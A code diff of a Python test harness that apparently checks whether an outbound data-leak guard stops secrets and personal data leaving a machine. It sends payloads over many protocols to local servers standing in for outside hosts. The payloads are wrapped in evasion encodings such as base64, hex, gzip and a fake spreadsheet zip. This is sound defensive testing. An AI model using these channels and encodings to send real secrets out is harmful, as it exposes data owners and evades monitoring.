@@ -1,173 +1,36 @@
-# Sends secrets and personal data through the clients that are installed, to a server in this process that stands for
-# hosts elsewhere, in plain and through TLS; prints one JSON row for each cell: what it was, and whether it arrived.
+# Sends secrets and personal data through the clients that are installed, to servers in this process that stand for hosts
+# elsewhere, in plain and through TLS; prints one JSON row for each cell: what it was, and whether it arrived.
 #     leaks.py CERTIFICATE CLIENTS ENCODINGS      (names between commas; `CERTIFICATE` holds the key, too)
+# PAYLOADS in the environment is JSON: {name: text}.
 
-import asyncio
 import base64
 import gzip
-import http.client
+import io
 import json
 import os
-import socket
 import ssl
 import sys
 import threading
+import types
 import urllib.parse
-import urllib.request
+import zipfile
 import zlib
 
+import leak_clients
+import leak_servers
+
 certificate, clients, encodings = sys.argv[1], sys.argv[2].split(','), sys.argv[3].split(',')
-arrived = []
-
-
-def answer(connection, context):
-    seen = b''
-    try:
-        if context is not None:
-            connection = context.wrap_socket(connection, server_side=True)
-        connection.settimeout(5)
-        while True:
-            part = connection.recv(1 << 16)
-            if not part:
-                break
-            seen += part
-            head, end, body = seen.partition(b'\r\n\r\n')
-            length = [line[15:] for line in head.lower().split(b'\r\n') if line[:15] == b'content-length:']
-            if end and (len(body) >= int(length[0]) if length else body.endswith(b'0\r\n\r\n')):
-                reply = b'{"id":"1","object":"list","data":[],"choices":[],"model":"m","created":1}'
-                connection.sendall(
-                    b'HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nConnection: close\r\n'
-                    b'Content-Length: %d\r\n\r\n%s' % (len(reply), reply)
-                )
-                break
-    except OSError:
-        pass
-    arrived.append(seen.partition(b'\r\n\r\n')[2] if seen.startswith(b'POST ') else seen)
-    connection.close()
-
-
-def serve(context):
-    server = socket.socket()
-    server.bind(('127.0.0.1', 0))
-    server.listen(64)
-
-    def accept():
-        while True:
-            threading.Thread(target=answer, args=(server.accept()[0], context), daemon=True).start()
-
-    threading.Thread(target=accept, daemon=True).start()
-    return server.getsockname()[1]
-
-
-trusting = ssl.create_default_context(cafile=certificate)
-trusting.check_hostname = False
-own = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
-own.load_cert_chain(certificate)
-plain_port, secure_port = serve(None), serve(own)
-plain, secure = 'http://127.0.0.1:%d/in' % plain_port, 'https://127.0.0.1:%d/in' % secure_port
-
-
-def by_urllib(body):
-    urllib.request.urlopen(secure, data=body, context=trusting).read()
-
-
-def by_http_client(body):
-    connection = http.client.HTTPSConnection('127.0.0.1', secure_port, context=trusting)
-    try:
-        connection.request('POST', '/in', body)
-        connection.getresponse().read()
-    finally:
-        connection.close()
-
-
-def by_ssl(body):
-    with trusting.wrap_socket(socket.create_connection(('127.0.0.1', secure_port))) as connection:
-        connection.sendall(body)
-
-
-def by_asyncio_tls(body):
-    async def main():
-        _, writer = await asyncio.open_connection('127.0.0.1', secure_port, ssl=trusting, server_hostname='127.0.0.1')
-        writer.write(body)
-        await writer.drain()
-        writer.close()
-        await writer.wait_closed()
-
-    asyncio.run(main())
-
-
-def by_requests(body):
-    import requests
-
-    requests.post(plain, data=body)
-
-
-def by_requests_tls(body):
-    import requests
-
-    requests.post(secure, data=body, verify=certificate)
-
-
-def by_urllib3(body):
-    import urllib3
-
-    urllib3.PoolManager(ca_certs=certificate, assert_hostname=False).request('POST', secure, body=body, retries=False)
-
-
-def by_httpx(body):
-    import httpx
-
-    httpx.post(plain, content=body)
-
-
-def by_httpx_tls(body):
-    import httpx
-
-    httpx.post(secure, content=body, verify=trusting)
-
-
-def by_httpx_async(body):
-    import httpx
-
-    async def main():
-        async with httpx.AsyncClient(verify=trusting) as client:
-            await client.post(secure, content=body)
-
-    asyncio.run(main())
-
-
-def by_aiohttp(body):
-    import aiohttp
-
-    async def main():
-        async with aiohttp.ClientSession() as session:
-            async with session.post(plain, data=body) as response:
-                await response.read()
-
-    asyncio.run(main())
-
-
-def by_aiohttp_tls(body):
-    import aiohttp
-
-    async def main():
-        async with aiohttp.ClientSession() as session:
-            async with session.post(secure, data=body, ssl=trusting) as response:
-                await response.read()
-
-    asyncio.run(main())
-
-
-def by_openai(body):
-    import openai
-
-    client = openai.OpenAI(base_url=plain[:-3], api_key='not-needed', max_retries=0)
-    client.embeddings.create(
-        model='m', input=body.decode('latin-1')
-    )
-
-
 PAYLOADS = json.loads(os.environ.pop('PAYLOADS'))
+
+
+def zipped(text):
+    made = io.BytesIO()
+    with zipfile.ZipFile(made, 'w', zipfile.ZIP_DEFLATED) as file:
+        file.writestr('xl/styles.xml', '<styleSheet/>' * 40)
+        file.writestr('xl/sharedStrings.xml', '<sst><si><t>' + text.replace('\n', '</t></si><si><t>') + '</t></si></sst>')
+    return made.getvalue()
+
+
 ENCODINGS = {
     'plain': lambda text: text.encode(),
     'base64': lambda text: base64.b64encode(b'it is ' + text.encode() + b' there'),
@@ -176,30 +39,80 @@ ENCODINGS = {
     'hex': lambda text: text.encode().hex().encode(),
     'gzip': lambda text: gzip.compress(text.encode()),
     'deflate': lambda text: zlib.compress(text.encode()),
+    'zip': zipped,
+    'base64gzip': lambda text: base64.b64encode(gzip.compress(text.encode())),
+}
+PACKED = ('gzip', 'deflate', 'zip')
+SERVERS = {
+    'httpx_h2': 'http2',
+    'httpx_h2_header': 'http2',
+    'websockets': 'websocket',
+    'websocket_client': 'websocket',
+    'aiohttp_websocket': 'websocket',
+    'smtplib': 'mail',
+    'ftplib': 'ftp',
+    'paramiko': 'ssh',
+    'grpc': 'grpc',
+    'pymysql': 'mysql',
 }
 
-number = 0
-for client in clients:
-    for encoding in encodings:
-        if client == 'openai' and encoding in ('gzip', 'deflate'):
-            continue  # it sends text
-        for payload, text in PAYLOADS.items():
-            host = 'cell-%d.example' % number
-            places = ('127.0.0.1', '127.0.0.1:%d' % plain_port, '127.0.0.1:%d' % secure_port)
-            os.environ['SENTINEL_STANDS_FOR'] = ','.join('%s=%s' % (place, host) for place in places)
-            body = ENCODINGS[encoding](text)
-            arrived.clear()
-            said = ''
-            try:
-                globals()['by_' + client](body)
-            except Exception as fault:
-                while fault is not None:
-                    said += str(fault)
-                    fault = fault.__cause__ or fault.__context__
-            for _ in range(300):
-                if arrived:
-                    break
-                threading.Event().wait(0.01)
-            row = {'client': client, 'encoding': encoding, 'payload': payload, 'host': host, 'said': said[:400]}
-            print(json.dumps(dict(row, bytes=sum(map(len, arrived)))))
-            number += 1
+
+def places():
+    """Where the clients send to."""
+    trusting = ssl.create_default_context(cafile=certificate)
+    trusting.check_hostname = False
+    own = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    own.load_cert_chain(certificate)
+    plain, secure = leak_servers.listen(leak_servers.web), leak_servers.listen(lambda one: leak_servers.web(one, own))
+    here = types.SimpleNamespace(trusting=trusting, certificate=certificate, plain_port=plain, secure_port=secure)
+    here.http, here.https = 'http://127.0.0.1:%d/in' % plain, 'https://127.0.0.1:%d/in' % secure
+    ports = [plain, secure]
+    for name in sorted({SERVERS[client] for client in clients if client in SERVERS}):
+        start = getattr(leak_servers, name)
+        port = start(certificate) if name == 'http2' else start()
+        setattr(here, name + '_port', port)
+        ports += [port, leak_servers.arrived.data_port or port]
+    here.h2 = 'https://127.0.0.1:%d/in' % getattr(here, 'http2_port', 0)
+    here.websocket = 'ws://127.0.0.1:%d/in' % getattr(here, 'websocket_port', 0)
+    return here, ports
+
+
+def stand_for(host, ports):
+    names = ['127.0.0.1'] + ['127.0.0.1:%d' % port for port in ports]
+    os.environ['SENTINEL_STANDS_FOR'] = ','.join('%s=%s' % (name, host) for name in names)
+
+
+def send(client, body):
+    """What was said of the refusal, '' where there was none."""
+    said = ''
+    try:
+        getattr(leak_clients, 'by_' + client)(body)
+    except Exception as fault:
+        while fault is not None:
+            said += str(fault)
+            fault = fault.__cause__ or fault.__context__
+    return said
+
+
+def main():
+    leak_clients.here, ports = places()
+    number = 0
+    for client in clients:
+        for encoding in encodings:
+            if client in leak_clients.TEXT and encoding in PACKED:
+                continue
+            for payload, text in PAYLOADS.items():
+                host = 'cell-%d.example' % number
+                stand_for(host, ports)
+                leak_servers.arrived.clear()
+                said = send(client, ENCODINGS[encoding](text))
+                for _ in range(60 if said else 300):
+                    if leak_servers.arrived:
+                        break
+                    threading.Event().wait(0.01)
+                row = {'client': client, 'encoding': encoding, 'payload': payload, 'host': host, 'said': said[:400]}
+                print(json.dumps(dict(row, bytes=sum(map(len, leak_servers.arrived)))), flush=True)
+                number += 1
+
+
+main()
